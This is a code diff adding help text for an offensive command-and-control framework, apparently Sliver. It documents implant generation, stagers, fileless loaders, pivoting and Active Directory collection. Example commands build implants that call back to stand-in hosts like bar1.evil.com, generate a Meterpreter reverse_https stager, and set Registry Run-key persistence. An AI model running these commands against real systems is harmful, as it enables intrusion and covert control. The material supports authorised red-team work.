@@ -45,13 +45,24 @@ var (
 		consts.BackgroundStr:    backgroundHelp,
 		consts.InfoStr:          infoHelp,
 		consts.UseStr:           useHelp,
+		consts.ConnectStr:       connectHelp,
+		consts.PanesStr:         panesHelp,
+		consts.SettingsStr + sep + consts.AutoLootStr: settingsAutoLootHelp,
 		consts.GenerateStr:      generateHelp,
 		consts.MsfStagerStr:     generateStagerHelp,
+		consts.GenerateStr + sep + consts.WizardStr: generateWizardHelp,
+		consts.GenerateStr + sep + consts.LoaderStr: generateLoaderHelp,
+		consts.PreflightStr:     preflightHelp,
 		consts.StageListenerStr: stageListenerHelp,
+		consts.ExternalC2Str:    extC2Help,
+		consts.BloodHoundStr:    bloodhoundHelp,
+		consts.BloodHoundStr + sep + consts.IngestStr: bloodhoundIngestHelp,
+		consts.SharpHoundStr:    sharpHoundHelp,
 
 		consts.MsfStr:              msfHelp,
 		consts.MsfInjectStr:        msfInjectHelp,
 		consts.PsStr:               psHelp,
+		consts.ShellStr:            shellHelp,
 		consts.PingStr:             pingHelp,
 		consts.KillStr:             killHelp,
 		consts.LsStr:               lsHelp,
@@ -60,6 +71,7 @@ var (
 		consts.CatStr:              catHelp,
 		consts.DownloadStr:         downloadHelp,
 		consts.UploadStr:           uploadHelp,
+		consts.TransfersStr:        transfersHelp,
 		consts.MkdirStr:            mkdirHelp,
 		consts.RmStr:               rmHelp,
 		consts.ProcdumpStr:         procdumpHelp,
@@ -67,6 +79,7 @@ var (
 		consts.RunAsStr:            runAsHelp,
 		consts.ImpersonateStr:      impersonateHelp,
 		consts.RevToSelfStr:        revToSelfHelp,
+		consts.ExecuteStr:          executeHelp,
 		consts.ExecuteAssemblyStr:  executeAssemblyHelp,
 		consts.ExecuteShellcodeStr: executeShellcodeHelp,
 		consts.MigrateStr:          migrateHelp,
@@ -89,6 +102,12 @@ var (
 		consts.PivotsStr:                    pivotsHelp,
 		consts.WgPortFwdStr:                 wgPortFwdHelp,
 		consts.WgSocksStr:                   wgSocksHelp,
+		consts.PortfwdStr:                   portfwdHelp,
+		consts.RportfwdStr:                  rportfwdHelp,
+		consts.Socks5Str:                    socks5Help,
+		consts.Socks5Str + sep + consts.ConnectionsStr: socks5ConnectionsHelp,
+		consts.Socks5Str + sep + consts.KillStr:        socks5KillHelp,
+		consts.Socks5Str + sep + consts.LimitStr:       socks5LimitHelp,
 		consts.SSHStr:                       sshHelp,
 		consts.DLLHijackStr:                 dllHijackHelp,
 		consts.GetPrivsStr:                  getPrivsHelp,
@@ -103,23 +122,168 @@ var (
 		// Profiles
 		consts.ProfilesStr + sep + consts.NewStr:      newProfileHelp,
 		consts.ProfilesStr + sep + consts.GenerateStr: generateProfileHelp,
+		consts.ProfilesStr + sep + consts.HistoryStr:  profilesHistoryHelp,
+		consts.ProfilesStr + sep + consts.ExportStr:   profilesExportHelp,
+		consts.ProfilesStr + sep + consts.ImportStr:   profilesImportHelp,
+
+		consts.ImplantBuildsStr + sep + consts.BundleStr: implantsBundleHelp,
+		consts.ImplantBuildsStr + sep + consts.PatchStr: implantsPatchHelp,
+		consts.ImplantBuildsStr + sep + consts.VerifyStr: implantsVerifyHelp,
+		consts.ImplantBuildsStr + sep + consts.LookupStr: implantsLookupHelp,
 
 		// Reactions
 		consts.ReactionStr:                         reactionHelp,
 		consts.ReactionStr + sep + consts.SetStr:   reactionSetHelp,
 		consts.ReactionStr + sep + consts.UnsetStr: reactionUnsetHelp,
 
+		// Scripts
+		consts.ScriptsStr:                          scriptsHelp,
+		consts.ScriptsStr + sep + consts.LoadStr:   scriptsLoadHelp,
+		consts.ScriptsStr + sep + consts.UnloadStr: scriptsUnloadHelp,
+		consts.ScriptsStr + sep + consts.RunStr:    scriptsRunHelp,
+
+		// Macros
+		consts.MacrosStr:                       macrosHelp,
+		consts.MacrosStr + sep + consts.AddStr: macrosAddHelp,
+		consts.MacrosStr + sep + consts.RmStr:  macrosRmHelp,
+		consts.MacrosStr + sep + consts.RunStr: macrosRunHelp,
+		consts.TagStr:                          tagHelp,
+		consts.NoteStr:                         noteHelp,
+		consts.ColorStr:                        colorHelp,
+		consts.HistoryStr:                      historyHelp,
+
+		// Graph
+		consts.GraphStr: graphHelp,
+
+		// Scan
+		consts.ScanStr: scanHelp,
+		consts.DiscoverStr: discoverHelp,
+		consts.ADStr:       adHelp,
+		consts.ResolversStr: resolversHelp,
+
+		// EDR
+		consts.EDREnumStr: edrEnumHelp,
+
+		// Taskmany
+		consts.TaskmanyStr + sep + consts.RunStr: taskmanyRunHelp,
+
+		// Armory
+		consts.ArmoryStr + sep + consts.InstallStr:  armoryInstallHelp,
+		consts.ArmoryStr + sep + consts.UpdateStr:   armoryUpdateHelp,
+		consts.ArmoryStr + sep + consts.PinStr:      armoryPinHelp,
+		consts.ArmoryStr + sep + consts.UnpinStr:    armoryUnpinHelp,
+		consts.ArmoryStr + sep + consts.RollbackStr: armoryRollbackHelp,
+
+		// Private armory
+		consts.ArmoryStr + sep + consts.PublishStr:   armoryPublishHelp,
+		consts.ArmoryStr + sep + consts.HostedStr:    armoryHostedHelp,
+		consts.ArmoryStr + sep + consts.UnpublishStr: armoryUnpublishHelp,
+		consts.ArmoryStr + sep + consts.ServeStr:     armoryServeHelp,
+
+		// Plugins
+		consts.PluginsStr:                           pluginsHelp,
+		consts.PluginsStr + sep + consts.LoadStr:    pluginsLoadHelp,
+		consts.PluginsStr + sep + consts.InstallStr: pluginsInstallHelp,
+		consts.PluginsStr + sep + consts.RmStr:      pluginsRmHelp,
+
+		// Tasks
+		consts.TasksStr + sep + consts.PendingStr: tasksPendingHelp,
+		consts.TasksStr + sep + consts.MoveStr:    tasksMoveHelp,
+		consts.TasksStr + sep + consts.CancelStr:  tasksCancelHelp,
+
+		// Watch
+		consts.WatchStr:                            watchHelp,
+		consts.WatchStr + sep + consts.PsStr:       watchPsHelp,
+		consts.WatchStr + sep + consts.NetstatStr:  watchNetstatHelp,
+		consts.WatchStr + sep + consts.IfconfigStr: watchIfconfigHelp,
+
 		consts.Cursed + sep + consts.CursedChrome: cursedChromeHelp,
 
 		// Builders
 		consts.BuildersStr: buildersHelp,
+
+		// Toolchains
+		consts.ToolchainsStr:                           toolchainsHelp,
+		consts.ToolchainsStr + sep + consts.InstallStr: toolchainsInstallHelp,
+		consts.ToolchainsStr + sep + consts.RmStr:      toolchainsRmHelp,
+
+		// Dashboard
+		consts.DashboardStr: dashboardHelp,
+
+		// Mythic
+		consts.MythicBridgeStr: mythicBridgeHelp,
+
+		// Listener profiles
+		consts.ListenersStr: listenersHelp,
+
+		// HTTP C2 config
+		consts.HTTPC2Str: httpC2Help,
+		consts.ReloadConfigStr: reloadConfigHelp,
+		consts.StageListenerStr + sep + consts.FetchesStr: stageFetchesHelp,
+		consts.CaptureStr: captureHelp,
+		consts.CaptureStr + sep + consts.StartStr: captureStartHelp,
+		consts.CaptureStr + sep + consts.StopStr: captureStopHelp,
+		consts.PresenceStr: presenceHelp,
+		consts.LockStr: lockHelp,
+		consts.UnlockStr: unlockHelp,
+		consts.VerifyStr: verifyHelp,
+		consts.HttpsStr: httpsHelp,
+
+		// [ Operators ]
+		consts.OperatorCertsStr: operatorCertsHelp,
+		consts.RevokeOperatorStr: revokeOperatorHelp,
+		consts.RotateOperatorCAStr: rotateOperatorCAHelp,
+		consts.BurnStr: burnHelp,
+		consts.HTTPC2Str + sep + consts.RedirectorStr: httpC2RedirectorHelp,
+		consts.LootStr + sep + consts.TagStr: lootTagHelp,
+		consts.LootStr + sep + consts.SearchStr: lootSearchHelp,
+		consts.LootStr + sep + consts.ExportStr: lootExportHelp,
+		consts.LootStr + sep + consts.FetchStr: lootFetchHelp,
+		consts.CredsStr + sep + consts.ExportStr: credsExportHelp,
+		consts.CredsStr + sep + consts.CrackedStr: credsCrackedHelp,
+		consts.ReplayStr: replayHelp,
+		consts.FederationStr: federationHelp,
+		consts.FederationStr + sep + consts.LinkStr: federationLinkHelp,
+		consts.FederationStr + sep + consts.FetchStr: federationFetchHelp,
+		consts.AutomationStr: automationHelp,
+		consts.AutomationStr + sep + consts.AddStr: automationAddHelp,
+		consts.CanariesStr: canariesHelp,
+		consts.CanariesStr + sep + consts.HttpStr: canariesHTTPHelp,
+		consts.CanariesStr + sep + consts.AWSStr: canariesAWSHelp,
+		consts.CanariesStr + sep + consts.DocumentStr: canariesDocumentHelp,
+		consts.HostsStr + sep + consts.InfoStr: hostsInfoHelp,
+		consts.HostsStr + sep + consts.ScansStr: hostsScansHelp,
+		consts.HostsStr + sep + consts.DiscoveredStr: hostsDiscoveredHelp,
+		consts.HostsStr + sep + consts.TimelineStr: hostsTimelineHelp,
+		consts.HostsStr + sep + consts.ExportStr: hostsExportHelp,
+		consts.HostsStr + sep + consts.CoverageStr: hostsCoverageHelp,
+		consts.SchedulesStr: schedulesHelp,
+		consts.SchedulesStr + sep + consts.AddStr: schedulesAddHelp,
+		consts.GroupsStr: groupsHelp,
+		consts.GroupsStr + sep + consts.AddStr: groupsAddHelp,
+		consts.GroupsStr + sep + consts.TaskStr: groupsTaskHelp,
+		consts.HttpStr: httpHelp,
+		consts.MtlsStr: mtlsHelp,
 	}
 
 	jobsHelp = `[[.Bold]]Command:[[.Normal]] jobs <options>
-	[[.Bold]]About:[[.Normal]] Manage jobs/listeners.`
+	[[.Bold]]About:[[.Normal]] Manage jobs/listeners.
+
+A draining listener does not accept new implant registrations, sessions and beacons that are already
+connected keep working so they can finish their tasks. Once the Sessions count reaches zero the job can
+be killed without interrupting anyone.
+
+[[.Bold]][[.Underline]]++ Examples ++[[.Normal]]
+	jobs --drain 1
+	jobs --undrain 1
+`
 
 	sessionsHelp = `[[.Bold]]Command:[[.Normal]] sessions <options>
-[[.Bold]]About:[[.Normal]] List Sliver sessions, and optionally interact or kill a session.`
+[[.Bold]]About:[[.Normal]] List Sliver sessions, and optionally interact or kill a session.
+
+Use --json to print the sessions as json (filters only apply to the table), this is supported by the
+sessions, beacons, tasks, tasks fetch, loot, loot fetch, and generate commands. When running from a system
+shell only the json is written to stdout, all other messages are written to stderr.`
 
 	backgroundHelp = `[[.Bold]]Command:[[.Normal]] background
 [[.Bold]]About:[[.Normal]] Background the active Sliver.`
@@ -128,14 +292,109 @@ var (
 [[.Bold]]About:[[.Normal]] Get information about a Sliver by name, or for the active Sliver.`
 
 	useHelp = `[[.Bold]]Command:[[.Normal]] use [sliver name/session]
-[[.Bold]]About:[[.Normal]] Switch the active Sliver, a valid name must be provided (see sessions).`
+[[.Bold]]About:[[.Normal]] Switch the active Sliver, a valid name must be provided (see sessions).
+When connected to more than one server, 'use <server>/<id>' switches to the server first (see connect).`
+
+	connectHelp = `[[.Bold]]Command:[[.Normal]] connect [profile] [--close profile]
+[[.Bold]]About:[[.Normal]] Switch the console to another server. Each operator config in the client's configs
+directory is a profile named after its file (without the extension), without a profile the profiles are listed.
+
+The console stays connected to the previous server in the background, its events are still printed. With more than
+one server connected, session and beacon names in events are prefixed with the server's name and the prompt shows
+the active server. Commands, scripts, and reactions only use the active server. Tunnels (port forwards, socks, etc.)
+keep running on the server they were started on.
+
+[[.Bold]]Examples:[[.Normal]]
+
+	connect
+	connect engagement-b
+	connect --close engagement-b`
+
+	panesHelp = `[[.Bold]]Command:[[.Normal]] panes [--shell <session>...] [--task <session/beacon>...]
+[[.Bold]]About:[[.Normal]] Split the terminal into panes, each bound to its own session or beacon, so a shell on one
+target stays visible while tasking another. Without any panes a task pane is opened on the active target.
+Shell panes run an interactive shell without a PTY. Task panes run implant commands, 'use <session/beacon>' binds
+the pane to another target without changing the console's active target. An event ticker pane is added unless
+--no-events is set, it also shows messages the console would otherwise print.
+
+Keys are sent to the focused pane, press Ctrl-B followed by:
+	o       focus the next pane
+	1-9     focus a pane by number
+	[ ]     scroll the focused pane up/down (or PgUp/PgDn)
+	x       close the focused pane
+	d       detach, closing every pane
+[[.Bold]]Examples:[[.Normal]]
+
+	panes --shell WISE_OTTER --task BRAVE_FOX
+	panes --columns --task WISE_OTTER --task 4a1b2c3d
+`
+
+	settingsAutoLootHelp = `[[.Bold]]Command:[[.Normal]] settings auto-loot [size]
+[[.Bold]]About:[[.Normal]] Save the output of implant commands that is larger than the size (e.g. 64k, 1m) as loot
+tagged 'output', and only show the first page of it. The rest can be paged through with enter, or viewed with
+'loot fetch'. Beacon task results are saved the same way when they arrive. Set the size to 0 to disable it, and
+'settings save' to keep it.
+
+Use --auto-loot on any implant command to override the setting for that command, e.g.:
+
+	ls / --auto-loot 16k
+	execute-assembly --auto-loot 0 Seatbelt.exe -group=all
+`
+
+	bloodhoundHelp = `[[.Bold]]Command:[[.Normal]] bloodhound <command>
+[[.Bold]]About:[[.Normal]] Ingest BloodHound collections.
+
+Collections are saved as loot tagged "bloodhound", every data file (computers, users, groups, etc.) is also saved
+as text loot tagged "bloodhound:<type>" so it can be searched, e.g. "loot search --tag bloodhound:users --content admin".
+
+Collections can be uploaded to a BloodHound Community Edition instance configured in the server's configs/server.json,
+using an API token created in the BloodHound UI (set "auto_upload" to upload every collection):
+
+	"bloodhound": {
+		"url": "https://bloodhound.example.com",
+		"token_id": "<id>",
+		"token_key": "<key>"
+	}
+
+Use "sharphound" to collect from a session.`
+
+	bloodhoundIngestHelp = `[[.Bold]]Command:[[.Normal]] bloodhound ingest [ZIP] <options>
+[[.Bold]]About:[[.Normal]] Ingest a collection zip from SharpHound or a compatible collector (e.g. bloodhound.py, RustHound).
+
+[[.Bold]]Examples:[[.Normal]]
+	bloodhound ingest ./20230101_collection.zip --upload`
+
+	sharpHoundHelp = `[[.Bold]]Command:[[.Normal]] sharphound [SHARPHOUND] <options> -- [ARGS]
+[[.Bold]]About:[[.Normal]] (Windows Only) Run SharpHound with execute-assembly, download the collection, and ingest it (see "bloodhound").
+
+The collection is removed from the target unless --keep is used. Sessions only, for beacons use execute-assembly and
+download the collection, then "bloodhound ingest" it. Additional SharpHound arguments can be passed after "--".
+
+[[.Bold]]Examples:[[.Normal]]
+	sharphound ./SharpHound.exe --collection All --upload
+	sharphound ./SharpHound.exe --collection DCOnly -- --domain corp.local --ldapusername user --ldappassword pass`
+
+	extC2Help = `[[.Bold]]Command:[[.Normal]] extc2 <options>
+[[.Bold]]About:[[.Normal]] Start a Cobalt Strike External C2 listener for third-party controllers.
+
+A controller connects to the listener, sends its options (e.g. "arch=x64", "pipename=foo", "block=100") followed
+by "go", and receives the stage set with --stage (a shellcode file, e.g. a sliver shellcode implant). It then relays
+frames between the listener and its channel client on the target. Generate the implant with --extc2, the implant
+accepts the channel client's connection on the address and runs mTLS over the relayed frames.
+
+Only session implants are supported, named pipe channels need a channel client that bridges the pipe to tcp.
+
+[[.Bold]]Examples:[[.Normal]]
+	extc2 --lport 2222 --stage ./implant.bin
+	generate --extc2 127.0.0.1:2223 --format shellcode
+`
 
 	generateHelp = `[[.Bold]]Command:[[.Normal]] generate <options>
 [[.Bold]]About:[[.Normal]] Generate a new sliver binary and saves the output to the cwd or a path specified with --save.
 
 [[.Bold]][[.Underline]]++ Command and Control ++[[.Normal]]
-You must specificy at least one c2 endpoint when generating an implant, this can be one or more of --mtls, --wg, --http, or --dns, --named-pipe, or --tcp-pivot.
-The command requires at least one use of --mtls, --wg, --http, or --dns, --named-pipe, or --tcp-pivot.
+You must specificy at least one c2 endpoint when generating an implant, this can be one or more of --mtls, --wg, --http, or --dns, --named-pipe, --tcp-pivot, or --extc2.
+The command requires at least one use of --mtls, --wg, --http, or --dns, --named-pipe, --tcp-pivot, or --extc2.
 
 The follow command is used to generate a sliver Windows executable (PE) file, that will connect back to the server using mutual-TLS:
 	generate --mtls foo.example.com 
@@ -148,6 +407,68 @@ then connect to TCP port 8888 on the server's virtual tunnel interface to establ
 You can also stack the C2 configuration with multiple protocols:
 	generate --os linux --mtls example.com,domain.com --http bar1.evil.com,bar2.attacker.com --dns baz.bishopfox.com
 
+Implants generated with an http(s) c2 use the routes of the server's current http c2 config, use --http-c2-version to
+generate with a previous version of the config (see "http-c2").
+
+Windows implants make their http(s) requests with the pure Go driver unless --http-driver picks a native one: wininet
+uses the user's proxy settings and authenticates to NTLM/Kerberos proxies as the current user, or with the c2 url's
+"proxy-username" and "proxy-password" options, winhttp works when the implant runs as a service (where WinINet isn't
+supported) and authenticates to proxies as the current user or with the same options. A c2 url's "driver" option
+overrides it:
+	generate --os windows --http example.com --http-driver winhttp --format service
+
+Implants generated with --http-client-cert present their mtls certificate to https c2s, for listeners started with
+https --require-client-cert. With the native drivers a c2 url's "client-cert" option presents a certificate from the
+Windows certificate store instead, by its sha1 thumbprint, e.g. for a redirector that requires its own client certificates
+(the user's personal store is searched, then the machine's):
+	generate --os windows --http "https://example.com?driver=winhttp&client-cert=<thumbprint>"
+
+Implants find the system's proxy for each http(s) c2 with --proxy-mode auto (the default): environment variables,
+WPAD and PAC files, the Internet Options and netsh winhttp settings on Windows. WPAD is tried as a last resort when
+the Internet Options don't enable it, e.g. for services. --proxy-mode manual skips WPAD and PAC files and only uses
+the statically configured proxy: the environment variables and Internet Options with the Go driver, the Internet
+Options with wininet, and the netsh winhttp proxy with winhttp. none connects directly. A c2 url's "proxy-mode"
+option takes precedence, and its "proxy" option (e.g. proxy=http://proxy.corp.com:8080) sends every request through
+that proxy with any driver, whatever the mode:
+	generate --os windows --http example.com --proxy-mode manual
+
+Session implants generated with --extc2 wait for a Cobalt Strike External C2 channel client to connect on the
+address (default 127.0.0.1:2223), the c2 traffic is relayed by the third-party controller (see "extc2"):
+	generate --extc2 127.0.0.1:2223
+
+Implants generated with --compress use zstd to compress c2 messages larger than 1 KiB in both directions on every
+transport, which makes large text output (directory listings, assembly output) much faster over dns and http(s).
+Messages that don't get smaller, such as encrypted or already compressed files, are sent as is:
+	generate --http example.com --compress
+
+Implants generated with --spa send a single packet authorization knock, an HMAC authenticated udp packet, to the
+port of an mtls c2 before each connection, start the listener with --spa to drop connections that didn't knock.
+
+The http(s), dns, and pivot session keys of new implants are exchanged using both X25519 and ML-KEM-768, so recorded
+c2 traffic stays confidential even if X25519 is broken in the future. Over mtls the implant also sends an ML-KEM-768
+ciphertext after the TLS handshake and encrypts each message with a key derived from both, and wireguard implants get
+a preshared key, which WireGuard mixes into its handshake. Use --kex x25519 to generate an implant with the smaller
+X25519 only key exchange of older implants.
+
+Implants generated with --config-key-source only have their c2 urls and http c2 profile encrypted in the binary, and
+get the key at runtime from the last command line argument (arg), an environment variable (env:NAME), a file
+(file:PATH), or the body of an http(s) GET request (url:URL, retried like a connection). A random key is generated
+and printed unless one is given with --config-key, the encryption key is derived from it with argon2id and a random
+salt. The rest of the implant (its name, keys and certificates, canary domains, and options such as the reconnect
+interval) isn't encrypted, so --config-key-source hides where the implant connects to but not that it's an implant.
+Without the key the implant exits without connecting anywhere:
+	generate --http example.com --config-key-source env:APPDATA_TOKEN
+	generate --mtls example.com --config-key-source url:https://example.org/k.txt --config-key 'a long random key'
+Use --config-key-source bundle to generate a provisionable implant instead, which gets its c2 config and keys from a
+provisioning bundle appended to the executable (see 'implants bundle --help').
+
+
+[[.Bold]][[.Underline]]++ Profiles ++[[.Normal]]
+Use --profile to generate from a saved implant profile instead of the implant options, a previous version of the
+profile can be referenced with name@version. Only --name, --save, and --disable-sgn are applied on top of the profile:
+	generate --profile my-profile
+	generate --profile my-profile@2
+
 
 [[.Bold]][[.Underline]]++ Formats ++[[.Normal]]
 Supported output formats are Windows PE, Windows DLL, Windows Shellcode, Mach-O, and ELF. The output format is controlled
@@ -182,10 +503,86 @@ canaries and their status using the "canaries" command:
 [[.Bold]][[.Underline]]++ Execution Limits ++[[.Normal]]
 Execution limits can be used to restrict the execution of a Sliver implant to machines with specific configurations.
 
+[[.Bold]][[.Underline]]++ Dead Man's Switch ++[[.Normal]]
+Implants generated with --dead-man-days remove the given persistence and exit once they couldn't reach any c2 for that
+many days, so an implant that was forgotten after an engagement doesn't keep running. Each --dead-man-cleanup is a file
+(file:PATH, $VARIABLES are expanded), a registry value on Windows (reg:HKCU\KEY\VALUE or reg:HKLM\KEY\VALUE),
+or the implant's own executable (self). Without --dead-man-state the implant starts counting whenever it's started:
+	generate --os linux --http example.com --dead-man-days 30 --dead-man-state '$HOME/.cache/.fc.db' --dead-man-cleanup self
+	generate --mtls example.com --dead-man-days 14 --dead-man-cleanup 'reg:HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Updater'
+
+[[.Bold]][[.Underline]]++ Adaptive Beaconing ++[[.Normal]]
+Beacons generated with --adaptive check in at their interval while the user is active, --idle-factor times less often
+once there's been no user input for --idle-threshold seconds or the screen is locked, and twice as long again while the
+host runs on battery. On Windows idle time comes from the user's session (implants in session 0 always see an active
+host), on Linux from terminal input, other platforms always look active:
+	generate beacon --mtls example.com --seconds 300 --adaptive --idle-threshold 600 --idle-factor 6
+
+[[.Bold]][[.Underline]]++ Cross-compilers ++[[.Normal]]
+Shared libraries are built with cgo, which needs a C cross-compiler for the target (see 'help toolchains'). Use
+--cc-backend zig to build with zig cc, which the server installs if needed, and which also supports windows/arm64 and
+linking linux shared libraries against an older glibc instead of statically linking musl:
+	generate --os linux --format shared --mtls example.com --cc-backend zig --glibc 2.17
+	generate --os windows --arch arm64 --format shared --mtls example.com --cc-backend zig
+External builders started with --zig install it at startup, and are the only builders used for zig builds.
+
+[[.Bold]][[.Underline]]++ Reproducible Builds ++[[.Normal]]
+Implants generated with --reproducible are rebuilt bit-for-bit from their saved config: obfuscation, user agents, c2
+paths and config encryption are all seeded by a build seed saved with the implant, and build ids and timestamps are
+stripped. Rebuild an implant on the same server toolchain and check a deployed copy against the approved build with:
+	generate --mtls example.com --reproducible --name approved
+	implants verify approved --file ./deployed.exe
+Shellcode and canary domains can't be reproduced.
+
 [[.Bold]][[.Underline]]++ Profiles ++[[.Normal]]
 Due to the large number of options and C2s this can be a lot of typing. If you'd like to have a reusable a Sliver config
 see 'help profiles new'. All "generate" flags can be saved into a profile, you can view existing profiles with the "profiles"
 command.
+`
+	generateWizardHelp = `[[.Bold]]Command:[[.Normal]] generate wizard [--save <path>]
+[[.Bold]]About:[[.Normal]] Generate a new implant by answering a series of prompts instead of passing flags.
+
+The wizard walks through the implant type (session or beacon), target OS/arch, output format, C2 transports and
+endpoints, build options (symbol obfuscation, evasion, SGN, debug), connection settings, and execution limits. Endpoints
+are checked as they're entered, and only the formats and transports that are valid for the target are offered.
+
+You can start from an existing profile, its settings are used as the defaults. A summary is shown before building, and
+the settings can be saved as a new profile so the same implant can be rebuilt later with "profiles generate".
+`
+	preflightHelp = `[[.Bold]]Command:[[.Normal]] preflight [--profile <name> | --implant <name>] [--skip-infra]
+[[.Bold]]About:[[.Normal]] Check a build config and the running listeners for opsec mistakes before anything is deployed.
+
+Build checks (--profile or --implant):
+	debug builds, unobfuscated symbols, disabled evasion, beacons without jitter, no execution limits,
+	plain text or bare IP C2 endpoints, default ports, default HTTP C2 profile values, and the JA3 of the
+	implant's TLS client hello
+
+Infrastructure checks (every running listener is probed over loopback, the way a scanner would):
+	empty 404 responses and missing Server headers, default JARM, certificate common names shared by
+	several listeners, stages served on the default file extension or to anyone who asks
+
+Every finding costs points depending on its severity (high 25, medium 10, low 3), the grade goes from A (90 or more)
+to F (less than 60).
+
+[[.Bold]]Examples:[[.Normal]]
+
+	preflight --profile win-beacon
+	preflight --implant CLEVER_OTTER --skip-infra
+`
+	generateLoaderHelp = `[[.Bold]]Command:[[.Normal]] generate loader --url <stage url> [--implant <build> | --profile <profile>]
+[[.Bold]]About:[[.Normal]] Print ready-to-paste one-liners that download a staged build from a stage listener and run it
+without writing it to disk. The one-liners are bound to the build's platform and format:
+
+	[[.Bold]]windows shellcode[[.Normal]]  powershell (reflection only, no Add-Type) and python (ctypes)
+	[[.Bold]]linux executable[[.Normal]]   bash (curl/wget and perl memfd_create) and python 3.8+ (os.memfd_create)
+
+Use --type to only print some of them. The stage must be served by an http(s) stage listener without --compress
+or encryption, and --prepend-size must match the stage listener's. Add --insecure when the listener uses a self-signed
+certificate.
+
+[[.Bold]]Examples:[[.Normal]]
+	stage-listener --url http://10.0.0.1:8080 --profile win-shellcode
+	generate loader --url http://10.0.0.1:8080/update.woff --profile win-shellcode --type powershell
 `
 	generateStagerHelp = `[[.Bold]]Command:[[.Normal]] generate msf-stager <options>
 [[.Bold]]About:[[.Normal]] Generate a new sliver stager shellcode and saves the output to the cwd or a path specified with --save, or to stdout using --format.
@@ -213,6 +610,13 @@ The full list of advanced options is available using "show advanced" in msf for
 Example:
 	To tell the stager to use the proxy proxy.corp.com:8080 with the user name "corp_drone" and password "MyPassword", you would pass the following string to --advanced:
 	HttpProxyHost=proxy.corp.com&HttpProxyPort=8080&HttpProxyUser=corp_drone&HttpProxyPass=MyPassword
+
+[[.Bold]][[.Underline]]++ Metasploit Handlers ++[[.Normal]]
+By default the stagers are served by a sliver stage listener (see "stage-listener"). Use --payload to generate a
+standard stager for a Metasploit exploit/multi/handler instead, and --handler to save a resource script that starts
+the matching handler:
+	generate msf-stager --lhost 10.0.0.1 --lport 8443 --protocol https --payload meterpreter/reverse_https --handler stager.rc
+	msfconsole -r stager.rc
 `
 	stageListenerHelp = `[[.Bold]]Command:[[.Normal]] stage-listener <options>
 [[.Bold]]About:[[.Normal]] Starts a stager listener bound to a Sliver profile.
@@ -226,6 +630,21 @@ stage-listener --url tcp://1.2.3.4:8080 --profile my-sliver-profile
 To create a profile, use the [[.Bold]]profiles new[[.Normal]] command. A common scenario is to create a profile that generates a shellcode, which can act as a stage 2:
 
 profiles new --format shellcode --mtls 1.2.3.4 --skip-symbols windows-shellcode
+
+[[.Bold]][[.Underline]]++ Constraints ++[[.Normal]]
+A stage can be single-use (--one-time), served a limited number of times (--max-fetches), expire after a duration
+(--expires), and be pinned to the addresses of the targets (--allow-ip). Requests that do not satisfy the constraints
+receive the listener's decoy content (HTTP) or a closed connection (TCP), so the stage cannot be harvested after initial
+access. Every request is recorded on the server, see [[.Bold]]stage-listener fetches[[.Normal]].
+
+stage-listener --url http://1.2.3.4:8080 --profile my-sliver-profile --one-time --expires 1h --allow-ip 5.6.7.0/24
+`
+
+	stageFetchesHelp = `[[.Bold]]Command:[[.Normal]] stage-listener fetches <options>
+[[.Bold]]About:[[.Normal]] List every request made to stage listeners, including requests that were refused.
+
+Each request records the job, implant profile, remote address (including proxy headers), user agent, path, and
+whether the stage was served or why it was refused (expired, address not allowed, fetch limit reached).
 `
 
 	newProfileHelp = `[[.Bold]]Command:[[.Normal]] new <options> <profile name>
@@ -239,16 +658,103 @@ settings. Generated implants will still have per-binary certificates/obfuscation
 `
 
 	generateProfileHelp = `[[.Bold]]Command:[[.Normal]] generate [name] <options>
-[[.Bold]]About:[[.Normal]] Generate an implant from a saved profile (see 'profiles new --help').`
+[[.Bold]]About:[[.Normal]] Generate an implant from a saved profile (see 'profiles new --help').
+
+A previous version of the profile can be generated with name@version (see 'profiles history'):
+	profiles generate my-profile@2
+`
+
+	profilesHistoryHelp = `[[.Bold]]Command:[[.Normal]] history <profile name>
+[[.Bold]]About:[[.Normal]] List the saved versions of a profile.
+
+Every change to a profile is saved as a new version, previous versions can be referenced anywhere
+a profile name is accepted with name@version (e.g. 'profiles generate', 'generate --profile', 'stage-listener --profile').`
+
+	profilesExportHelp = `[[.Bold]]Command:[[.Normal]] export <profile name> [--save file.yaml]
+[[.Bold]]About:[[.Normal]] Export a profile as yaml, the output can be edited and imported with 'profiles import'.
+
+Per-build values such as keys and certificates are not exported, they are generated for each implant:
+	profiles export my-profile --save my-profile.yaml
+	profiles export my-profile@2`
+
+	profilesImportHelp = `[[.Bold]]Command:[[.Normal]] import <file.yaml> [--name]
+[[.Bold]]About:[[.Normal]] Import a profile from a yaml file exported with 'profiles export'.
+
+Importing a profile with the name of an existing profile saves a new version of that profile:
+	profiles import my-profile.yaml
+	profiles import my-profile.yaml --name my-other-profile`
+
+	implantsBundleHelp = `[[.Bold]]Command:[[.Normal]] implants bundle <implant> [--name] <c2 options>
+[[.Bold]]About:[[.Normal]] Generate a provisioning bundle (c2 config and keys of a new implant) for a provisionable build.
+
+Provisionable builds are generated with '--config-key-source bundle', they can't connect anywhere until a bundle is
+appended to the executable. Each bundle is encrypted with the key embedded in that build and is saved as an implant
+of its own, so the builder never has to run where the implant is deployed. Only the c2 transports the provisionable
+build was generated with can be used, wireguard isn't supported:
+	generate --os linux --mtls placeholder --http placeholder --config-key-source bundle --name generic
+	implants bundle generic --mtls 10.0.0.5 --name site-a --save site-a.bundle
+
+On the far side, combine the generic executable with the bundle:
+	cat generic site-a.bundle > implant
+	copy /b generic.exe + site-a.bundle implant.exe
+
+Bundles are not confidential: the key they are encrypted with is in plaintext in the generic executable, so anyone
+with a copy of it can read the c2 config and keys of every bundle generated for it. Handle the generic executable
+and its bundles like the implants themselves.
+
+The http c2 profile is only in the bundle, use --http-c2-version to bundle a version other than the build's (see
+"http-c2"). Use 'implants patch' to get the executable with the bundle already appended.`
+
+	implantsPatchHelp = `[[.Bold]]Command:[[.Normal]] implants patch <implant> [--name] <c2 options>
+[[.Bold]]About:[[.Normal]] Patch the c2 config and keys of a new implant into a provisionable build without recompiling.
+
+The server appends a new provisioning bundle (see 'implants bundle --help') to its copy of the provisionable build's
+executable, so reissuing payloads when infrastructure changes mid-operation takes seconds instead of a full build.
+Each patched implant gets new keys and is saved as an implant of its own, burning one doesn't affect the others.
+Only the c2 transports the provisionable build was generated with can be used:
+	generate --os windows --mtls placeholder --http placeholder --config-key-source bundle --name generic
+	implants patch generic --http https://new-redirector.example.com --http-c2-version 3 --save implant.exe`
+
+	implantsVerifyHelp = `[[.Bold]]Command:[[.Normal]] implants verify <implant> [--file]
